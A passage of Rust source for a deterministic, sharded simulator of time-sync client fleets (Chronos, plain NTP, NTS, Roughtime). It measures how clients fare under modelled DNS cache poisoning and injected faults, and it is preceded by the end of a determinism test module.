        let mut reused = Fleet::new(config);
        reused.run();
        reused.reset(99);
        reused.run();
        reused.reset(7);
        let reused_report = reused.run();
        assert_eq!(fresh_report, reused_report, "reset is byte-identical");
        for i in 0..16 {
            assert_eq!(fresh.trace(i), reused.trace(i), "client {i} trajectory");
        }
    }

    #[test]
    fn reconfigure_resizes_and_rebuilds() {
        let mut fleet = Fleet::new(small_config());
        fleet.run();
        let mut bigger = small_config();
        bigger.clients = 128;
        bigger.seed = 3;
        fleet.reconfigure(bigger.clone());
        let a = fleet.run();
        let b = Fleet::new(bigger).run();
        assert_eq!(a, b, "reconfigured fleet equals a fresh one");
    }

    #[test]
    fn shifted_fraction_counts_against_the_bound() {
        let config = FleetConfig {
            clients: 4,
            stagger: SimDuration::ZERO,
            client_drift_ppm: 0.0,
            ..small_config()
        };
        let fleet = Fleet::new(config);
        assert_eq!(fleet.shifted_fraction(SimTime::ZERO), 0.0);
        assert_eq!(fleet.client_offset_ns(0, SimTime::ZERO), 0);
        assert_eq!(fleet.client_phase(0), Phase::PoolGeneration);
        assert_eq!(fleet.client_stats(0), ChronosStats::default());
    }
}
