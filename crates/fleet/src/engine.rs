//! The fleet engine: struct-of-arrays client state, sharded into
//! independently-steppable slabs, scheduled by per-shard timer wheels.
//!
//! # Event model
//!
//! Every client owns exactly one pending deadline — its next pool-
//! generation round or its next poll — filed in its shard's
//! [`TimerWheel`]. The wheel batches deadlines by tick, the engine
//! re-orders each batch by exact `(nanosecond, client)` and steps clients
//! one lane at a time, so a run's outcome is a pure function of the
//! configuration: independent of wheel internals and thread count.
//! Per-client state — trajectories, pools, clocks — and the counting
//! aggregates (histogram, shifted series) are additionally independent of
//! the tick size, which only batches; the one tick-shaped edge is that a
//! same-instant follow-up appended mid-drain (a completed pool's first
//! poll) runs at the end of its batch, so the *order* of the observation
//! stream feeding the order-sensitive P² quantile estimators is defined
//! at the fixed 1 ms tick grain (`TICK_NS`).
//!
//! # Cohorts: heterogeneous tiers across multiple resolvers
//!
//! A fleet is a set of [`CohortTier`](crate::cohort::CohortTier)s —
//! client kind (Chronos, plain-NTP, NTS or Roughtime), population share,
//! per-tier configuration overrides — whose clients hash across
//! [`FleetConfig::resolvers`] independent resolver caches. Both
//! assignments are pure functions of the global client id
//! ([`crate::cohort`]), materialized into `tier`/`resolver` state columns
//! at rebuild time. Chronos lanes conclude rounds through
//! [`chronos::core::conclude_sample_round`]; plain-NTP lanes through
//! [`chronos::core::conclude_plain_round`] (which delegates to
//! `ntplab`'s intersection → cluster → combine pipeline), so each kind
//! runs the *same* decision code as its packet-level reference client.
//! An empty tier list with `resolvers = 1` is the homogeneous legacy
//! fleet, byte-identical to the pre-cohort engine.
//!
//! The secure tiers model partial secure-time deployment (E18). **NTS**
//! clients poll Chronos-shaped over an *authenticated* association —
//! poisoned resolvers cannot alter their samples — but the NTS-KE
//! bootstrap (boot, and every re-key boundary) resolves the KE server
//! name through the client's resolver, so an association inside the
//! poison window hands the client to attacker servers for the key
//! lifetime (`assoc_expiry_ns` column; re-key boundaries interleave with
//! polls via [`Phase::PoolGeneration`] flips). **Roughtime** clients
//! resolve M sources through M distinct resolvers at boot
//! (`assoc_sources` packed bitmask column) and cross-reference their
//! signed midpoints by strict majority every fetch
//! ([`chronos::core::conclude_roughtime_round`]); rounds without a
//! majority are *detected* inconsistencies — counted, never applied.
//!
//! # Sharded parallel stepping
//!
//! A fleet's clients are partitioned into contiguous shards of
//! [`FleetConfig::shard_size`] clients. Each shard owns its slice of
//! every state column *plus* a private timer wheel, selection scratch and
//! streaming aggregates, so stepping one shard touches no other shard's
//! memory. The only cross-client coupling — the shared resolver caches —
//! is resolved before stepping by a deterministic pre-pass
//! ([`ResolverModel::timeline`], one per resolver): pool-query times are
//! static (`boot + k·interval`, independent of the answers), so each
//! cache's full answer timeline is replayed once and then read immutably
//! by every shard. After the pre-pass, shards are embarrassingly
//! parallel: [`Fleet::run_until`] fans them over
//! [`netsim::par::for_each_mut`] (the same lock-free claim-cursor
//! dispatcher Monte-Carlo trials use) and the report merges shard
//! aggregates **in shard order** — integer counters merge exactly, P²
//! estimators merge deterministically — so a run is byte-identical for
//! every [`FleetConfig::threads`] value, which the determinism proptests
//! pin.
//!
//! # Batched request/response rounds
//!
//! A poll round is **batched request/response**: instead of exchanging
//! packets, the engine draws the round's sample composition directly from
//! the client's pool (malicious vs benign, without replacement), produces
//! per-sample observed offsets (server offset − client offset + path
//! jitter), and concludes the round through the *real* decision machinery
//! in [`chronos::core`] — the same code the packet-level clients run.
//! Corrections land on real [`ntplab::clock::LocalClock`]s.
//!
//! # Examples
//!
//! Build a small mixed fleet and run it to its horizon ([`Fleet::run`]):
//!
//! ```
//! use fleet::cohort::CohortTier;
//! use fleet::config::FleetConfig;
//! use fleet::engine::Fleet;
//!
//! let config = FleetConfig {
//!     clients: 64,
//!     // 3:1 Chronos to plain-NTP, hashed over two resolver caches.
//!     tiers: vec![
//!         CohortTier::chronos("chronos", 3),
//!         CohortTier::plain_ntp("plain ntp", 1),
//!     ],
//!     resolvers: 2,
//!     horizon: netsim::time::SimDuration::from_secs(2_000),
//!     ..FleetConfig::default()
//! };
//! let mut fleet = Fleet::new(config);
//! let report = fleet.run();
//! assert_eq!(report.clients, 64);
//! // No attack: every tier stays synced, nobody drifts past the bound.
//! assert_eq!(report.final_shifted_fraction, 0.0);
//! let labels: Vec<&str> = report.tiers.iter().map(|t| t.label.as_str()).collect();
//! assert_eq!(labels, ["chronos", "plain ntp"]);
//! assert_eq!(report.tiers.iter().map(|t| t.clients).sum::<usize>(), 64);
//! ```

use crate::checkpoint::{self, CheckpointError, Reader, Writer};
use crate::cohort::{resolver_of, ClientKind, TierAssignment, TierParams};
use crate::config::FleetConfig;
use crate::metrics::FleetMetrics;
use crate::resolver::{DnsAnswer, QuerySchedule, ResolverModel, ResolverTimeline, STALE_TTL_SECS};
use crate::rng::{client_seed, fault_f64, FaultLane, FleetRng};
use crate::stats::{FaultCounters, OffsetHistogram, P2Quantile, SecureCounters};
use crate::wheel::TimerWheel;
use chronos::core::{
    self, ChronosStats, CoreState, Phase, PlainRoundOutcome, RoughtimeOutcome, RoundOutcome,
};
use chronos::select::SelectScratch;
use netsim::time::{SimDuration, SimTime};
use ntplab::clock::LocalClock;
use ntplab::select::PeerSample;
use serde::{Deserialize, Serialize};

/// Quantiles tracked by the streaming estimators.
const TRACKED_QUANTILES: [f64; 3] = [0.5, 0.9, 0.99];

/// Histogram resolution (bins per decade of |offset|).
const HISTOGRAM_BINS_PER_DECADE: usize = 8;

/// Wheel tick: 1 ms. A batching grain, not a quantization: events are
/// re-ordered and timestamped by exact nanosecond (see the module docs
/// for the one place the grain shows — P² observation order).
const TICK_NS: u64 = 1_000_000;

/// Sentinel in the packed `last_update` column meaning "no accepted
/// correction yet" (a real update at `u64::MAX` ns is unreachable — that
/// is five centuries of simulated time).
const NO_UPDATE: u64 = u64::MAX;

/// Aggregate outcome of a fleet run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FleetReport {
    /// Clients simulated.
    pub clients: usize,
    /// Simulated end time.
    pub end: SimTime,
    /// `(seconds, fraction)` series: share of the fleet whose |clock
    /// error| exceeds the safety bound, sampled at the configured cadence.
    pub shifted: Vec<(f64, f64)>,
    /// The fraction at the end of the run.
    pub final_shifted_fraction: f64,
    /// Clients whose pool contains at least one malicious server.
    pub poisoned_clients: u64,
    /// Clients that completed pool generation.
    pub synced_clients: u64,
    /// Element-wise sum of every client's [`ChronosStats`].
    pub totals: ChronosStats,
    /// Online `(p, |offset| ns)` quantile estimates over every concluded
    /// round's clock error (per-shard estimators merged in shard order).
    pub quantiles: Vec<(f64, f64)>,
    /// Fixed-bin histogram of the same stream.
    pub histogram: OffsetHistogram,
    /// Client events stepped (pool rounds + polls), for throughput
    /// accounting.
    pub events: u64,
    /// Fleet-wide fault-injection counters (all zero without a
    /// [`crate::config::FaultPlan`]).
    pub faults: FaultCounters,
    /// Fleet-wide secure-tier counters (all zero without NTS/Roughtime
    /// tiers).
    pub secure: SecureCounters,
    /// Per-tier breakdown, in tier order (a single implicit `"chronos"`
    /// tier for homogeneous fleets). Tier sums reproduce the fleet-wide
    /// fields above.
    pub tiers: Vec<TierBreakdown>,
}

/// One tier's slice of a [`FleetReport`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TierBreakdown {
    /// Tier label (from [`crate::cohort::CohortTier::label`]).
    pub label: String,
    /// Which client implementation the tier runs.
    pub kind: ClientKind,
    /// Clients assigned to this tier.
    pub clients: usize,
    /// `(seconds, fraction-of-tier)` shifted series, same sample schedule
    /// as the fleet-wide series.
    pub shifted: Vec<(f64, f64)>,
    /// Fraction of the tier beyond the safety bound at the end.
    pub final_shifted_fraction: f64,
    /// Tier clients with at least one malicious server in their pool.
    pub poisoned_clients: u64,
    /// Tier clients past pool generation (plain-NTP: resolved).
    pub synced_clients: u64,
    /// Element-wise sum of the tier's client counters.
    pub totals: ChronosStats,
    /// Element-wise sum of the tier's fault-injection counters.
    pub faults: FaultCounters,
    /// Element-wise sum of the tier's secure-tier counters (captured
    /// associations, detected inconsistencies, completed re-keys) — all
    /// zero for Chronos and plain-NTP tiers.
    pub secure: SecureCounters,
}

/// A cheap mid-run snapshot of a fleet's position and health — what a
/// supervising process (`chronosd`) polls between [`Fleet::run_until`]
/// slices without paying for a full [`FleetReport`] merge.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FleetProgress {
    /// Current simulated time.
    pub now: SimTime,
    /// The configured horizon ([`FleetConfig::horizon`]).
    pub horizon: SimDuration,
    /// Clients simulated.
    pub clients: usize,
    /// Client events stepped so far (pool rounds + polls).
    pub events: u64,
    /// Clients past pool generation.
    pub synced_clients: u64,
    /// Fraction of the fleet beyond the safety bound right now.
    pub shifted_fraction: f64,
    /// Wall-clock throughput over the most recent [`Fleet::run_until`]
    /// slice; `None` before the first slice (and right after a restore).
    /// Wall-clock only — two byte-identical runs may disagree here.
    pub throughput: Option<FleetThroughput>,
}

/// Wall-clock throughput of one completed [`Fleet::run_until`] slice.
///
/// This is observability data, not simulation state: it is measured on
/// the host's monotonic clock, excluded from checkpoints, and never fed
/// back into the engine.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FleetThroughput {
    /// Wall seconds the slice took.
    pub wall_secs: f64,
    /// Client events stepped per wall second.
    pub events_per_sec: f64,
    /// Simulated seconds advanced per wall second.
    pub sim_per_wall: f64,
}

impl FleetProgress {
    /// Run completion in `[0, 1]` (now / horizon, clamped).
    pub fn fraction_done(&self) -> f64 {
        let h = self.horizon.as_nanos();
        if h == 0 {
            return 1.0;
        }
        (self.now.as_nanos() as f64 / h as f64).min(1.0)
    }
}

/// Per-client activity counters at column width: a single client's per-run
/// counts are bounded by the horizon (tens of thousands of rounds at the
/// extreme), so 32 bits per counter suffice; the fleet-wide report widens
/// into the shared 64-bit [`ChronosStats`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct CompactStats {
    pool_queries: u32,
    pool_failures: u32,
    polls: u32,
    accepts: u32,
    rejects: u32,
    panics: u32,
}

impl CompactStats {
    fn widen(self) -> ChronosStats {
        ChronosStats {
            pool_queries: u64::from(self.pool_queries),
            pool_failures: u64::from(self.pool_failures),
            polls: u64::from(self.polls),
            accepts: u64::from(self.accepts),
            rejects: u64::from(self.rejects),
            panics: u64::from(self.panics),
        }
    }

    fn narrow(stats: &ChronosStats) -> CompactStats {
        let squeeze = |v: u64| u32::try_from(v).expect("per-client counter exceeds u32");
        CompactStats {
            pool_queries: squeeze(stats.pool_queries),
            pool_failures: squeeze(stats.pool_failures),
            polls: squeeze(stats.polls),
            accepts: squeeze(stats.accepts),
            rejects: squeeze(stats.rejects),
            panics: squeeze(stats.panics),
        }
    }
}

/// Per-client fault counters at column width (cf. [`CompactStats`]): a
/// client's per-run fault events are horizon-bounded, so u32 suffices;
/// the report widens into [`FaultCounters`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct CompactFaults {
    ntp_losses: u32,
    dns_servfails: u32,
    outage_hits: u32,
    stale_served: u32,
    boot_retries: u32,
}

impl CompactFaults {
    fn widen(self) -> FaultCounters {
        FaultCounters {
            ntp_losses: u64::from(self.ntp_losses),
            dns_servfails: u64::from(self.dns_servfails),
            outage_hits: u64::from(self.outage_hits),
            stale_served: u64::from(self.stale_served),
            boot_retries: u64::from(self.boot_retries),
        }
    }
}

/// Per-client secure-tier counters at column width (cf. [`CompactStats`]):
/// association and cross-check events are horizon-bounded, so u32
/// suffices; the report widens into [`SecureCounters`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct CompactSecure {
    captured: u32,
    inconsistent: u32,
    rekeys: u32,
}

impl CompactSecure {
    fn widen(self) -> SecureCounters {
        SecureCounters {
            captured_associations: u64::from(self.captured),
            detected_inconsistencies: u64::from(self.inconsistent),
            rekeys: u64::from(self.rekeys),
        }
    }
}

/// The DNS model a shard consults during pool generation, one entry per
/// resolver (indexed by the client's `resolver` column): the precomputed
/// shared-cache timelines, or the read-only independent resolvers.
#[derive(Debug, Clone, Copy)]
enum DnsView<'a> {
    Shared(&'a [ResolverTimeline]),
    Independent(&'a [ResolverModel]),
}

/// One contiguous slab of the fleet: a private copy of every per-client
/// column plus its own timer wheel, scratch buffers and streaming
/// aggregates. Shards never touch each other's state, so a fleet run can
/// step them concurrently and merge the aggregates afterwards.
#[derive(Debug)]
struct Shard {
    /// Global id of this shard's first client.
    first_global: u64,
    // --- struct-of-arrays client state (one entry per local client) ---
    clocks: Vec<LocalClock>,
    phase: Vec<Phase>,
    /// Tier index into the fleet's resolved [`TierParams`] list.
    tier: Vec<u8>,
    /// Resolver id the client hashes onto ([`resolver_of`]).
    resolver: Vec<u16>,
    retries: Vec<u32>,
    /// Envelope anchor, packed: ns of the last accepted correction, or
    /// [`NO_UPDATE`]. (A packed u64 column instead of `Option<SimTime>`
    /// halves this column's footprint.)
    last_update_ns: Vec<u64>,
    rng: Vec<u64>,
    stats: Vec<CompactStats>,
    /// Fault-injection counters (all zero when the plan is inert).
    faults: Vec<CompactFaults>,
    pool_rounds: Vec<u16>,
    /// Bitmap of benign rotation batches gathered (dedup, ≤ 64 residues).
    /// Plain-NTP lanes use bit 0 as a "resolved benign servers" marker.
    benign_batches: Vec<u64>,
    /// Malicious servers admitted to the pool (post-mitigation).
    malicious: Vec<u32>,
    deadline_ns: Vec<u64>,
    /// NTS lanes: ns the current association's keys expire at (0 = no
    /// usable association — pre-boot, or every re-key so far failed).
    assoc_expiry_ns: Vec<u64>,
    /// Roughtime lanes, packed: low 16 bits = sources resolved at boot,
    /// high 16 bits = the subset resolved through a poisoned cache.
    assoc_sources: Vec<u32>,
    /// Secure-tier counters (all zero for Chronos/plain-NTP clients).
    secure: Vec<CompactSecure>,
    /// Lazily sized: empty unless trajectory capture is opted in.
    traces: Vec<Vec<(SimTime, i64)>>,
    // --- machinery ---
    wheel: TimerWheel,
    scratch: SelectScratch,
    offsets_buf: Vec<i64>,
    /// Scratch for the plain-NTP pipeline's [`PeerSample`]s.
    plain_samples: Vec<PeerSample>,
    due: Vec<u32>,
    expired: Vec<u32>,
    /// Events popped off the wheel but beyond the current run boundary.
    carry: Vec<u32>,
    now_ns: u64,
    boundary_ns: u64,
    next_sample_ns: u64,
    /// Clients beyond the safety bound at each emitted sample, broken
    /// down by tier: sample-major with stride `tier_count` (the sample
    /// schedule is fleet-global, so chunk k is the per-tier counts at
    /// `k · sample_every` for every shard).
    shifted_counts: Vec<u64>,
    histogram: OffsetHistogram,
    quantiles: [P2Quantile; 3],
    events: u64,
}

impl Shard {
    /// An empty shard awaiting [`Shard::rebuild`].
    fn empty() -> Shard {
        Shard {
            first_global: 0,
            clocks: Vec::new(),
            phase: Vec::new(),
            tier: Vec::new(),
            resolver: Vec::new(),
            retries: Vec::new(),
            last_update_ns: Vec::new(),
            rng: Vec::new(),
            stats: Vec::new(),
            faults: Vec::new(),
            pool_rounds: Vec::new(),
            benign_batches: Vec::new(),
            malicious: Vec::new(),
            deadline_ns: Vec::new(),
            assoc_expiry_ns: Vec::new(),
            assoc_sources: Vec::new(),
            secure: Vec::new(),
            traces: Vec::new(),
            wheel: TimerWheel::new(0, TICK_NS),
            scratch: SelectScratch::new(),
            offsets_buf: Vec::new(),
            plain_samples: Vec::new(),
            due: Vec::new(),
            expired: Vec::new(),
            carry: Vec::new(),
            now_ns: 0,
            boundary_ns: 0,
            next_sample_ns: 0,
            shifted_counts: Vec::new(),
            histogram: OffsetHistogram::log_scale(HISTOGRAM_BINS_PER_DECADE),
            quantiles: TRACKED_QUANTILES.map(P2Quantile::new),
            events: 0,
        }
    }

    /// The single construction path: sizes every column for `len` clients
    /// starting at global id `first_global` (reusing allocations when the
    /// layout is unchanged) and reseeds each client at time zero. Used
    /// identically by `Fleet::new`, `reset` and `reconfigure`, so shard
    /// construction cannot drift between those paths.
    fn rebuild(
        &mut self,
        config: &FleetConfig,
        assignment: &TierAssignment,
        first_global: u64,
        len: usize,
    ) {
        self.first_global = first_global;
        // -- resize --
        self.clocks.resize(len, LocalClock::perfect());
        self.phase.resize(len, Phase::PoolGeneration);
        self.tier.resize(len, 0);
        self.resolver.resize(len, 0);
        self.retries.resize(len, 0);
        self.last_update_ns.resize(len, NO_UPDATE);
        self.rng.resize(len, 0);
        self.stats.resize(len, CompactStats::default());
        self.faults.resize(len, CompactFaults::default());
        self.pool_rounds.resize(len, 0);
        self.benign_batches.resize(len, 0);
        self.malicious.resize(len, 0);
        self.deadline_ns.resize(len, 0);
        self.assoc_expiry_ns.resize(len, 0);
        self.assoc_sources.resize(len, 0);
        self.secure.resize(len, CompactSecure::default());
        if config.record_trajectories {
            self.traces.resize(len, Vec::new());
            for trace in &mut self.traces {
                trace.clear();
            }
        } else {
            self.traces = Vec::new();
        }
        if self.wheel.capacity() != len {
            self.wheel.resize(len);
        }
        // -- rewind the machinery --
        self.wheel.reset();
        self.due.clear();
        self.expired.clear();
        self.carry.clear();
        self.now_ns = 0;
        self.boundary_ns = 0;
        self.next_sample_ns = 0;
        self.shifted_counts.clear();
        self.histogram.reset();
        for q in &mut self.quantiles {
            q.reset();
        }
        self.events = 0;
        // -- reseed every client --
        for i in 0..len {
            let global = self.first_global + i as u64;
            let (start_ns, drift, rng_state) = client_boot(config, global);
            self.clocks[i] = LocalClock::new(0, drift);
            self.phase[i] = Phase::PoolGeneration;
            self.tier[i] = assignment.tier_of(global);
            self.resolver[i] = resolver_of(config.seed, global, config.resolvers);
            self.retries[i] = 0;
            self.last_update_ns[i] = NO_UPDATE;
            self.rng[i] = rng_state;
            self.stats[i] = CompactStats::default();
            self.faults[i] = CompactFaults::default();
            self.pool_rounds[i] = 0;
            self.benign_batches[i] = 0;
            self.malicious[i] = 0;
            self.assoc_expiry_ns[i] = 0;
            self.assoc_sources[i] = 0;
            self.secure[i] = CompactSecure::default();
            self.schedule(i, start_ns);
        }
    }

    /// Runs the shard up to and including every event with a deadline at
    /// or before `target` ns.
    ///
    /// `obs` is a pure wall-clock side channel: when attached it records
    /// the shard's slice wall time and wheel/batch activity into `obs`
    /// atomics, and nothing in this method reads it back — simulation
    /// state is byte-identical with and without it.
    fn run_until(
        &mut self,
        target: u64,
        config: &FleetConfig,
        tiers: &[TierParams],
        dns: DnsView<'_>,
        obs: Option<&FleetMetrics>,
    ) {
        let slice_start = obs.map(|_| std::time::Instant::now());
        let events_before = self.events;
        let mut advances = 0u64;
        let mut ticks_skipped = 0u64;
        let mut batches = 0u64;
        self.boundary_ns = target;
        // Carried events (popped past an earlier boundary) may be due now.
        if !self.carry.is_empty() {
            let carry = std::mem::take(&mut self.carry);
            for id in carry {
                if self.deadline_ns[id as usize] <= target {
                    self.due.push(id);
                } else {
                    self.carry.push(id);
                }
            }
        }
        batches += u64::from(!self.due.is_empty());
        self.process_due(config, tiers, dns);
        let limit_tick = self.wheel.tick_of(target);
        while self.wheel.now_ns() < target && (self.wheel.armed() > 0 || !self.due.is_empty()) {
            // Jump over the empty stretch to the next tick that can expire
            // or cascade anything — per-shard wheels would otherwise walk
            // the full horizon tick by tick, once per shard.
            let tick_before = self.wheel.now_tick();
            self.wheel.fast_forward(limit_tick);
            ticks_skipped += self.wheel.now_tick() - tick_before;
            self.wheel.advance(&mut self.expired);
            advances += 1;
            while let Some(id) = self.expired.pop() {
                if self.deadline_ns[id as usize] <= target {
                    self.due.push(id);
                } else {
                    self.carry.push(id);
                }
            }
            batches += u64::from(!self.due.is_empty());
            self.process_due(config, tiers, dns);
        }
        self.emit_samples_until(target, config, tiers.len());
        self.now_ns = target;
        if let (Some(m), Some(start)) = (obs, slice_start) {
            m.shard_slice.record(start.elapsed());
            m.events.add(self.events - events_before);
            m.wheel_advances.add(advances);
            m.wheel_ticks_skipped.add(ticks_skipped);
            m.round_batches.add(batches);
        }
    }

    fn process_due(&mut self, config: &FleetConfig, tiers: &[TierParams], dns: DnsView<'_>) {
        if self.due.is_empty() {
            return;
        }
        // Batches come off the wheel tick-grained; the engine's semantics
        // are (deadline, client)-ordered. Appended same-instant follow-ups
        // run at batch end (see the module docs on P² observation order).
        self.due
            .sort_unstable_by_key(|&id| (self.deadline_ns[id as usize], id));
        // Handlers may append same-instant follow-ups (a completed pool
        // schedules its first poll at the same nanosecond); the index loop
        // picks them up within this drain.
        let mut i = 0;
        while i < self.due.len() {
            let id = self.due[i] as usize;
            i += 1;
            let at_ns = self.deadline_ns[id];
            self.emit_samples_until(at_ns, config, tiers.len());
            self.events += 1;
            let tier = &tiers[self.tier[id] as usize];
            // A client's one pending event is a pool round exactly while
            // it is generating its pool, a poll afterwards — the phase
            // column *is* the event kind; the tier column picks the
            // decision machinery.
            match (tier.kind, self.phase[id]) {
                (ClientKind::Chronos, Phase::PoolGeneration) => {
                    self.pool_round(id, at_ns, config, tier, dns)
                }
                (ClientKind::Chronos, _) => self.poll_round(id, at_ns, config, tier),
                (ClientKind::PlainNtp, Phase::PoolGeneration) => {
                    self.plain_pool_round(id, at_ns, config, tier, dns)
                }
                (ClientKind::PlainNtp, _) => self.plain_poll_round(id, at_ns, config, tier),
                // NTS: PoolGeneration marks a pending NTS-KE association
                // (boot or re-key) — the one DNS-dependent step; polls
                // are Chronos-shaped over the authenticated association.
                (ClientKind::Nts, Phase::PoolGeneration) => {
                    self.nts_associate_round(id, at_ns, config, tier, dns)
                }
                (ClientKind::Nts, _) => self.poll_round(id, at_ns, config, tier),
                (ClientKind::Roughtime, Phase::PoolGeneration) => {
                    self.roughtime_boot_round(id, at_ns, config, tier, dns)
                }
                (ClientKind::Roughtime, _) => self.roughtime_poll_round(id, at_ns, config, tier),
            }
        }
        self.due.clear();
    }

    fn schedule(&mut self, i: usize, at_ns: u64) {
        self.deadline_ns[i] = at_ns;
        if !self.wheel.schedule(i as u32, at_ns) {
            // The wheel clock already passed this tick: run it within the
            // current window, or carry it into the next one.
            if at_ns <= self.boundary_ns {
                self.due.push(i as u32);
            } else {
                self.carry.push(i as u32);
            }
        }
    }

    /// The DNS answer resolver `r` serves at `at_ns` (`round` is the
    /// client's private rotation position in independent mode).
    fn dns_answer(&self, r: usize, at_ns: u64, round: u64, dns: DnsView<'_>) -> DnsAnswer {
        match dns {
            DnsView::Shared(timelines) => timelines[r].answer(at_ns),
            DnsView::Independent(models) => models[r].query_independent(at_ns, round),
        }
    }

    /// [`Shard::dns_answer`] against the client's own resolver, on the
    /// [`FaultLane::DnsQuery`] substream — the Chronos/plain-NTP path.
    fn resolve_dns(
        &mut self,
        i: usize,
        at_ns: u64,
        round: u64,
        config: &FleetConfig,
        tier: &TierParams,
        dns: DnsView<'_>,
    ) -> DnsAnswer {
        let r = self.resolver[i] as usize;
        self.resolve_dns_via(i, r, at_ns, FaultLane::DnsQuery, round, config, tier, dns)
    }

    /// [`Shard::dns_answer`] with the client tier's fault plan applied: a
    /// SERVFAIL draw (keyed on `lane` and the client's query index, so it
    /// is stepping-order-free) replaces the resolver's answer with
    /// whatever serve-stale can salvage from the cache, and the fault
    /// counters record what the client actually experienced. With an
    /// inert plan this takes no draws and is exactly `dns_answer`.
    /// `resolver` is explicit because Roughtime clients fan their M
    /// source resolutions across distinct resolvers.
    #[allow(clippy::too_many_arguments)]
    fn resolve_dns_via(
        &mut self,
        i: usize,
        resolver: usize,
        at_ns: u64,
        lane: FaultLane,
        round: u64,
        config: &FleetConfig,
        tier: &TierParams,
        dns: DnsView<'_>,
    ) -> DnsAnswer {
        let p = tier.faults.dns_servfail;
        let answer = if p > 0.0
            && fault_f64(config.seed, self.first_global + i as u64, lane, round, 0) < p
        {
            self.faults[i].dns_servfails += 1;
            match dns {
                // The recursive resolver fails client-side; RFC 8767
                // serve-stale may still answer from the shared cache.
                DnsView::Shared(timelines) => timelines[resolver].stale_answer(at_ns),
                DnsView::Independent(_) => DnsAnswer::Fail,
            }
        } else {
            let answer = self.dns_answer(resolver, at_ns, round, dns);
            if matches!(
                answer,
                DnsAnswer::StaleBenign { .. } | DnsAnswer::StalePoisoned { .. } | DnsAnswer::Fail
            ) {
                // The resolver itself was down (outage window) — distinct
                // from a client-side SERVFAIL draw.
                self.faults[i].outage_hits += 1;
            }
            answer
        };
        if matches!(
            answer,
            DnsAnswer::StaleBenign { .. } | DnsAnswer::StalePoisoned { .. }
        ) {
            self.faults[i].stale_served += 1;
        }
        answer
    }

    /// Drops each gathered NTP sample independently with probability `p`,
    /// compacting `offsets_buf` in place. Draws come from the client's
    /// fault substream keyed by `(lane, round, slot)` — the slot is the
    /// sample's position in the buffer — so loss patterns are
    /// byte-identical across thread counts and shard sizes. With `p <= 0`
    /// this takes no draws.
    fn apply_sample_loss(&mut self, i: usize, p: f64, lane: FaultLane, round: u64, seed: u64) {
        if p <= 0.0 {
            return;
        }
        let global = self.first_global + i as u64;
        let mut kept = 0;
        for slot in 0..self.offsets_buf.len() {
            if fault_f64(seed, global, lane, round, slot as u64) < p {
                self.faults[i].ntp_losses += 1;
            } else {
                self.offsets_buf[kept] = self.offsets_buf[slot];
                kept += 1;
            }
        }
        self.offsets_buf.truncate(kept);
    }

    // --- DNS pool generation (Chronos tiers) ---

    fn pool_round(
        &mut self,
        i: usize,
        at_ns: u64,
        config: &FleetConfig,
        tier: &TierParams,
        dns: DnsView<'_>,
    ) {
        self.stats[i].pool_queries += 1;
        let round = u64::from(self.pool_rounds[i]);
        let answer = self.resolve_dns(i, at_ns, round, config, tier, dns);
        if matches!(answer, DnsAnswer::Fail) {
            // The round is consumed — Chronos' pool window does not grow
            // to compensate for failed queries.
            self.stats[i].pool_failures += 1;
        } else {
            self.absorb_response(i, answer, config, tier);
        }
        self.pool_rounds[i] += 1;
        if usize::from(self.pool_rounds[i]) >= tier.chronos.pool.queries {
            self.phase[i] = Phase::Syncing;
            // Mirrors the packet client's zero-delay first poll.
            self.schedule(i, at_ns);
        } else {
            self.schedule(i, at_ns + tier.chronos.pool.query_interval.as_nanos());
        }
    }

    /// Applies one DNS response to a client pool, honouring the §V
    /// mitigations exactly as [`chronos::pool::PoolGenerator`] does: a
    /// response with any TTL above `reject_ttl_above` is discarded whole,
    /// and at most `max_records_per_response` addresses are taken (the
    /// same prefix every time, so a capped poisoned response never grows
    /// the pool past its first acceptance).
    fn absorb_response(
        &mut self,
        i: usize,
        answer: DnsAnswer,
        config: &FleetConfig,
        tier: &TierParams,
    ) {
        let pool_cfg = &tier.chronos.pool;
        let record_cap = pool_cfg.max_records_per_response.unwrap_or(usize::MAX);
        // Stale answers are re-served with the resolver's short stale TTL
        // (RFC 8767 §5), not the record's original TTL — which launders a
        // poisoned record's day-long TTL past the reject-TTL-above
        // mitigation. See the fault-model notes in ARCHITECTURE.md.
        let ttl = match answer {
            DnsAnswer::Benign { ttl_secs, .. } | DnsAnswer::Poisoned { ttl_secs, .. } => ttl_secs,
            DnsAnswer::StaleBenign { .. } | DnsAnswer::StalePoisoned { .. } => STALE_TTL_SECS,
            DnsAnswer::Fail => return,
        };
        if pool_cfg.reject_ttl_above.is_some_and(|cap| ttl > cap) {
            return; // the round is consumed, nothing is admitted
        }
        match answer {
            DnsAnswer::Benign { batch, .. } | DnsAnswer::StaleBenign { batch } => {
                let residue = batch % config.rotation_batches() as u64;
                self.benign_batches[i] |= 1u64 << residue;
            }
            DnsAnswer::Poisoned { farm_size, .. } | DnsAnswer::StalePoisoned { farm_size } => {
                let admitted = farm_size.min(record_cap) as u32;
                self.malicious[i] = self.malicious[i].max(admitted);
            }
            DnsAnswer::Fail => unreachable!("handled above"),
        }
    }

    /// Benign servers in client `i`'s pool: Chronos pools hold
    /// batches × admitted-per-batch; a plain-NTP pool is the prefix of its
    /// single resolution.
    fn benign_count(&self, i: usize, config: &FleetConfig, tier: &TierParams) -> usize {
        match tier.kind {
            ClientKind::Chronos => {
                let per_batch = tier
                    .chronos
                    .pool
                    .max_records_per_response
                    .unwrap_or(usize::MAX)
                    .min(config.per_response);
                self.benign_batches[i].count_ones() as usize * per_batch
            }
            ClientKind::PlainNtp => {
                if self.benign_batches[i] != 0 {
                    tier.plain_servers.min(config.per_response)
                } else {
                    0
                }
            }
            // An NTS association is all-benign or all-attacker: the KE
            // handshake hands out the whole server list, uncapped by the
            // DNS per-response record count.
            ClientKind::Nts => {
                if self.benign_batches[i] != 0 {
                    tier.plain_servers
                } else {
                    0
                }
            }
            // Roughtime sources resolved at boot minus the captured ones.
            ClientKind::Roughtime => {
                let packed = self.assoc_sources[i];
                ((packed & 0xffff) & !(packed >> 16)).count_ones() as usize
            }
        }
    }

    // --- plain-NTP lanes ---

    /// A plain-NTP client's boot-time DNS resolution: whatever the
